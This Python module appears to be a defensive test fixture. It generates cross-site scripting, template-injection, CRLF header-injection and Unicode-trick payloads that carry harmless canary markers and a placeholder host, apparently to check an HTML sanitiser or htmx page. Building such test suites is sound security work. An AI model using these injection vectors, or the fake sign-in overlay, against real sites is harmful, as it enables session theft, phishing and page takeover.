"""Texts that try to run in somebody's page, made by us: each tells on itself by `window.ran`, a dialog or a request.

`{n}` is the payload's number, `{run}` a statement that leaves its mark, `{far}` an address of somebody else's.
"""

from __future__ import annotations

RUN = "(top.ran=top.ran||[]).push({n})"
FAR = "//canary.invalid/{n}"

_SCRIPTS = """
<script>{run}</script>
<SCRIPT >{run}</SCRIPT >
<script src={far}.js></script>
<script type=module src=https:{far}.mjs></script>
<scr<script>ipt>{run}</scr</script>ipt>
</title></textarea></style></script><script>{run}</script>
"><script>{run}</script>
'><script>{run}</script>
--><script>{run}</script>
]]><script>{run}</script>
<script>{run}<!--</script>
<script/x>{run}</script>
<noscript><p title="</noscript><script>{run}</script>">
""".strip()
_EVENTS = """
<img src=x onerror={run}>
<img src=x onerror="{run}"//
<img/src=x/onerror={run}>
<IMG SRC=x OnErRoR="{run}">
<img src=x oneonerrorrror={run}>
"><img src=x onerror="{run}">
'><img src=x onerror='{run}'>
" onfocus="{run}" autofocus x="
' onfocus='{run}' autofocus x='
" onmouseover="{run}
` onerror={run} `
<body onload={run}>
<details open ontoggle="{run}"><summary>x</summary></details>
<video><source onerror="{run}"></video>
<audio src=x onerror={run}></audio>
<input autofocus onfocus={run}>
<select autofocus onfocus={run}></select>
<textarea autofocus onfocus={run}></textarea>
<button popovertarget=x onclick={run}>x</button><div popover id=x onbeforetoggle={run}>x</div>
<marquee onstart={run}>x</marquee>
<p style="animation:come 1s" onanimationstart="{run}">x</p>
<p onpointerenter={run} style=position:fixed;inset:0;z-index:9999>x</p>
<object data=x onerror={run}></object>
<iframe onload={run}></iframe>
<link rel=stylesheet href=x onerror={run}>
<style onload={run}></style>
<track onerror={run}>
<custom-thing onfocus={run} tabindex=1 autofocus>x</custom-thing>
""".strip()
_SVG = """
<svg onload={run}>
<svg/onload={run}//
<svg><script>{run}</script></svg>
<svg><script href="data:text/javascript,{run}"/></svg>
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><a><animate attributeName=href values="javascript:{run}"/><text y=20>x</text></a></svg>
<svg><a xlink:href="javascript:{run}"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{run}'/>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>{run}</script>"></iframe></foreignObject></svg>
<svg><set attributeName=onload to={run} begin=0s></svg>
<svg><image href="https:{far}.png"/></svg>
<svg><style>@import "https:{far}.css";</style></svg>
<math><a xlink:href="javascript:{run}">x</a></math>
<math href="javascript:{run}">x</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:{run}">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror={run}></annotation-xml></math>
""".strip()
_ADDRESSES = """
javascript:{run}
JaVaScRiPt:{run}
 javascript:{run}
java&#9;script:{run}
javascript&colon;{run}
&#106;avascript:{run}
data:text/html,<script>{run}</script>
data:text/html;base64,PHNjcmlwdD50b3AucmFuPVsxXTwvc2NyaXB0Pg==
vbscript:msgbox({n})
blob:https:{far}
<a href="javascript:{run}" target=_self>x</a>
<a href="data:text/html,<script>{run}</script>">x</a>
<a href=x ping=https:{far}>x</a>
<form action="javascript:{run}"><input type=submit></form>
<form><button formaction="javascript:{run}">x</button></form>
<form action=https:{far} id=f></form><input form=f name=q>
<iframe src="javascript:{run}"></iframe>
<iframe srcdoc="<script>{run}</script>"></iframe>
<iframe src="data:text/html,<script>parent.postMessage({n},'*')</script>"></iframe>
<embed src="javascript:{run}">
<object data="data:text/html,<script>{run}</script>"></object>
<base href=https:{far}/>
<meta http-equiv=refresh content="0;url=https:{far}">
<meta http-equiv=refresh content="0;url=javascript:{run}">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
<img src=https:{far}.png>
<img srcset="https:{far}.png 1x">
<picture><source srcset=https:{far}.webp><img></picture>
<video poster=https:{far}.png></video>
<input type=image src=https:{far}.png>
<link rel=prefetch href=https:{far}>
<link rel=dns-prefetch href=https:{far}>
<body background=https:{far}.png>
<table background=https:{far}.png><tr><td>x</table>
""".strip()
_MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror={run}>">
<svg></p><style><a id="</style><img src=x onerror={run}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>
<svg><title><![CDATA[</title><img src=x onerror={run}>]]></title></svg>
<template><img src=x onerror={run}></template>
<textarea><img title="</textarea><img src=x onerror={run}>">
<xmp><p title="</xmp><img src=x onerror={run}>">
<listing>&lt;img src=x onerror={run}&gt;</listing>
<plaintext><img src=x onerror={run}>
<!--><img src=x onerror={run}>-->
<!-- --!><img src=x onerror={run}> -->
<![CDATA[<img src=x onerror={run}>]]>
<?xml version="1.0"?><?php ?><img src=x onerror={run}>
&lt;img src=x onerror={run}&gt;
&amp;lt;img src=x onerror={run}&amp;gt;
&#60;img src=x onerror={run}&#62;
\\u003cimg src=x onerror={run}\\u003e
%3Cimg%20src%3Dx%20onerror%3D{run}%3E
+ADw-script+AD4-{run}+ADw-/script+AD4-
<a id=htmx></a><a id=htmx name=config href="x:{run}"></a>
<form id=toasts><input name=append></form><img name=cookie>
""".strip()
_TEMPLATES = """
{{{{ 7*7 }}}}{{{{ config }}}}{{{{ ''.__class__.__mro__ }}}}
{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}
${{{run}}}
#{{{run}}}
<%= {run} %>
[[{run}]]
{{{{constructor.constructor('{run}')()}}}}
<p v-html="'<img src=x onerror={run}>'" x-data x-init="{run}" ng-app>x</p>
`${{alert({n})}}`
';{run};//
\\';{run};//
";{run};//
</p><p style="background:url(https:{far}.png)">x</p>
<style>*{{background:url(https:{far}.png)}}</style>
<style>@import 'https:{far}.css';</style>
<link rel=stylesheet href=https:{far}.css>
<p style="width:expression({run})">x</p>
<p style="behavior:url(#x);-moz-binding:url(https:{far})">x</p>
red;}}*{{background:url(https:{far})}}
<p style=position:fixed;inset:0;background:#fff;z-index:99>Your session ended. <a href=https:{far}>Sign in</a></p>
""".strip()
_HTMX = """
<p hx-get=/canary/{n} hx-trigger=load>x</p>
<p data-hx-get=/canary/{n} data-hx-trigger=load>x</p>
<p hx-get=https:{far} hx-trigger=load>x</p>
<p hx-on::load="{run}" hx-on:click="{run}">x</p>
<p hx-get=/canary/{n} hx-trigger="load[{run}]">x</p>
<p hx-vals="js:{{x:{run}}}" hx-post=/canary/{n} hx-trigger=load>x</p>
<p hx-ext=morph hx-swap-oob="true" id=toasts>x</p>
" hx-get="/canary/{n}" hx-trigger="load" x="
<p data-live="queue_changed" hx-get=/canary/{n} hx-trigger="refresh,load,every 1s">x</p>
<meta name=htmx-config content='{{"allowEval":true,"allowScriptTags":true,"selfRequestsOnly":false}}'>
<button data-dialog=x data-copy="{run}" data-close data-theme-toggle>x</button>
<form hx-boost=true action=/canary/{n}><input autofocus></form>
""".strip()
_LETTERS = [
    "\u202e<img src=x onerror={run}>\u202c",
    "\u2066\u202egnp.exe\u2069 {n}",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u003cimg src=x on\u0000error={run}>",
    "<img src=x on\u200berror={run}>",
    "\ufeff<script>{run}</script>",
    "a\u0300" * 200 + " {n}",
    "<scr\u0131pt>{run}</scr\u0131pt>",
    "<\u017fcript>{run}</\u017fcript>",
    "\u2028<script>{run}</script>\u2029",
    "x\r\nContent-Type: text/html\r\n\r\n<script>{run}</script>",
    "x\r\nSet-Cookie: a={n}\r\nLocation: https:{far}",
    "x%0d%0aLocation:%20https:{far}",
    "<script\r\n>{run}</script\r\n>",
    "W" * 400 + " {n}",
    "\u00ad".join("Donaudampfschifffahrt") * 20,
    "\U0001f469\u200d\U0001f4bb" * 60 + " {n}",
]


def _all() -> list[str]:
    groups = (_SCRIPTS, _EVENTS, _SVG, _ADDRESSES, _MUTATIONS, _TEMPLATES, _HTMX)
    shapes = [line for group in groups for line in group.splitlines() if line.strip()] + _LETTERS
    filled = []
    for n, shape in enumerate(shapes):
        filled.append(shape.format(n=n, run=RUN.format(n=n), far=FAR.format(n=n)))
    return filled


PAYLOADS = _all()
